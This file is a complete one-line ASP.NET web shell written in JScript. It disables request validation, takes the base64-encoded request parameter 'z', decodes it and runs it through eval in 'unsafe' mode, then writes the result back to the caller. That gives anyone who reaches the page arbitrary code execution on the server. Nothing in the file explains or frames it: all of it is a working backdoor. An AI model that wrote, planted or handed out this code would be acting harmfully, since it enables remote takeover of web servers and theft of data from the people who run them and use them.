<%@ Page Language="Jscript" validateRequest="false" %><%Response.Write(eval(System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String(Request.Item["z"])),"unsafe"));%>
